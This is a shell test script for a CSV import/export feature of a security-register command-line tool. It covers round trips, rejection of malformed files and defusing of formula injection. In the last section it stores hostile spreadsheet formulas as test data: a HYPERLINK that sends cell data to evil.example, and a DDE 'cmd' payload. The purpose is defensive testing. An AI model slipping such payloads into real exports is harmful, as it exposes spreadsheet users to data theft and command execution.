#!/bin/sh
# CSV import/export: round trips for person, training, device and asset; malformed files
# rejected line by line with nothing imported.
. "$TOP/tests/cli/lib.sh"
A="$T/a"
B="$T/b"
"$BROKERSEC" init --data "$A" --org "甲" --internal-control no >/dev/null 2>&1
"$BROKERSEC" init --data "$B" --org "乙" --internal-control no >/dev/null 2>&1

cat > "$T/people.csv" <<'CSV'
name,role,email,hired,background_check,nda_signed
陳大文,security,chen@example.com,2020-01-01,yes,2020-01-02
"林, 小姐",it,,2021-05-31,no,
"王 ""老王""",general,,,,
CSV
run "$BROKERSEC" person import "$T/people.csv" --data "$A" --lang en
check "import succeeds" [ "$rc" -eq 0 ]
check "import succeeds (2)" check "it counts" contains "$out" "imported 3 records"
printf 'person,date,hours,course,kind\n1,2024-12-31,1.5,資安,professional\n2,2025-01-01,3,通識,\n' > "$T/tr.csv"
run "$BROKERSEC" training import "$T/tr.csv" --data "$A"
check "training import" [ "$rc" -eq 0 ]
printf 'asset_tag,kind,location\nNB-001,laptop,台北\nSRV-1,server,機房\n' > "$T/dev.csv"
run "$BROKERSEC" device import "$T/dev.csv" --data "$A"
check "device import" [ "$rc" -eq 0 ]
printf 'name,kind,owner,classification\n客戶資料庫,data,資訊部,confidential\n' > "$T/asset.csv"
run "$BROKERSEC" asset import "$T/asset.csv" --data "$A"
check "asset import" [ "$rc" -eq 0 ]

for r in person training device asset; do
	"$BROKERSEC" $r export --data "$A" > "$T/$r.1.csv"
	run "$BROKERSEC" $r import "$T/$r.1.csv" --data "$B"
	check "$r: export imports into a fresh data dir" [ "$rc" -eq 0 ]
	"$BROKERSEC" $r export --data "$B" > "$T/$r.2.csv"
	check "$r: round trip is exact" cmp -s "$T/$r.1.csv" "$T/$r.2.csv"
done
check "export uses CRLF" [ "$(head -n 1 "$T/person.1.csv" | od -c | grep -c '\\r')" -eq 1 ]
check "export quotes commas and quotes" grep -q '"王 ""老王"""' "$T/person.1.csv"

cat > "$T/bad.csv" <<'CSV'
name,role,hired
趙,security,2020-01-01
錢,boss,2020-01-01
孫,it,2021-02-29
李,it
CSV
before=$(sqlite3 "$A/brokersec.db" "SELECT count(*) FROM reg_record WHERE register = 'person'")
run "$BROKERSEC" --lang en person import "$T/bad.csv" --data "$A"
check "malformed csv fails" [ "$rc" -eq 1 ]
check "line 3 named" contains "$err" "bad.csv:3: column 'role': 'boss' is not allowed"
check "line 4 named" contains "$err" "bad.csv:4: column 'hired': '2021-02-29' is not a date"
check "line 5 named" contains "$err" "bad.csv:5: 2 cells, but the header has 3 columns"
check "summary says nothing imported" contains "$err" "nothing was imported"
check "the good line 2 was not imported either" \
	[ "$(sqlite3 "$A/brokersec.db" "SELECT count(*) FROM reg_record WHERE register = 'person'")" = "$before" ]
printf 'name,role\n"open,it\n' > "$T/quote.csv"
run "$BROKERSEC" --lang en person import "$T/quote.csv" --data "$A"
check "broken quoting named by line" contains "$err" "quote.csv:2: a quoted cell is not closed"
printf 'person,date,hours,course\n99,2025-01-01,1,c\n' > "$T/ref.csv"
run "$BROKERSEC" --lang en training import "$T/ref.csv" --data "$A"
check "a ref to a missing person is refused" contains "$err" "ref.csv:2: column 'person': no person 99"
: > "$T/empty.csv"
run "$BROKERSEC" person import "$T/empty.csv" --data "$A"
check "an empty file is refused" contains "$err" "empty.csv:1: the file is empty"

# A row of 64 cells ending with a comma at the end of the file: a clear error, not a crash.
{ printf 'name,role\n'; i=0; while [ $i -lt 64 ]; do printf 'x,'; i=$((i + 1)); done; } > "$T/wide.csv"
run "$BROKERSEC" --lang en person import "$T/wide.csv" --data "$A"
check "64 cells and a comma are refused" [ "$rc" -eq 1 ]
check "the refusal names the line" contains "$err" "wide.csv:2: more than 64 cells"

# Formula injection (OWASP): export defuses cells a spreadsheet would run, the stored value
# stays exact, and import gives back exactly what was exported.
C="$T/c"
E="$T/e"
"$BROKERSEC" init --data "$C" --org "丙" --internal-control no >/dev/null 2>&1
"$BROKERSEC" init --data "$E" --org "丁" --internal-control no >/dev/null 2>&1
tab=$(printf '\t')
for v in '=HYPERLINK("http://evil.example/?x="&A1,"click")' '+1+cmd|'"'"'/C calc'"'"'!A0' '-2+3' '@SUM(A1:A2)' \
	"$tab=1" "'=already quoted" "'plain"; do
	run "$BROKERSEC" person add --name "$v" --role it --note "$v" --data "$C"
	check "add '$v'" [ "$rc" -eq 0 ]
done
"$BROKERSEC" person export --data "$C" > "$T/f.csv"
check "= is defused" grep -q "^1,\"'=HYPERLINK(\"\"http" "$T/f.csv"
check "+ is defused" grep -q "^2,\"'+1+cmd" "$T/f.csv"
check "- is defused" grep -q "^3,\"'-2+3\"" "$T/f.csv"
check "@ is defused" grep -q "^4,\"'@SUM(A1:A2)\"" "$T/f.csv"
check "tab is defused" grep -q "^5,\"'$tab=1\"" "$T/f.csv"
check "a value starting with '= gets one more quote" grep -q "^6,\"''=already quoted\"" "$T/f.csv"
check "a quote before plain text is left alone" grep -q "^7,'plain," "$T/f.csv"
check "no cell starts with a formula character" [ "$(python3 -c '
import csv, sys
bad = [c for row in csv.reader(open(sys.argv[1], newline="")) for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
print(len(bad))' "$T/f.csv")" = 0 ]
run "$BROKERSEC" person show 1 --format json --data "$C"
check "show returns the exact value" contains "$out" '"name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"'
run "$BROKERSEC" person import "$T/f.csv" --data "$E"
check "the defused export imports" [ "$rc" -eq 0 ]
"$BROKERSEC" person export --data "$E" > "$T/f2.csv"
check "export -> import -> export is exact" cmp -s "$T/f.csv" "$T/f2.csv"
check "the imported values are exact" [ "$(sqlite3 "$E/brokersec.db" "SELECT group_concat(data, '|') FROM reg_record ORDER BY id")" = \
	"$(sqlite3 "$C/brokersec.db" "SELECT group_concat(data, '|') FROM reg_record ORDER BY id")" ]
run "$BROKERSEC" person show 6 --format json --data "$E"
check "a value that starts with '= survives" contains "$out" "\"name\": \"'=already quoted\""
finish
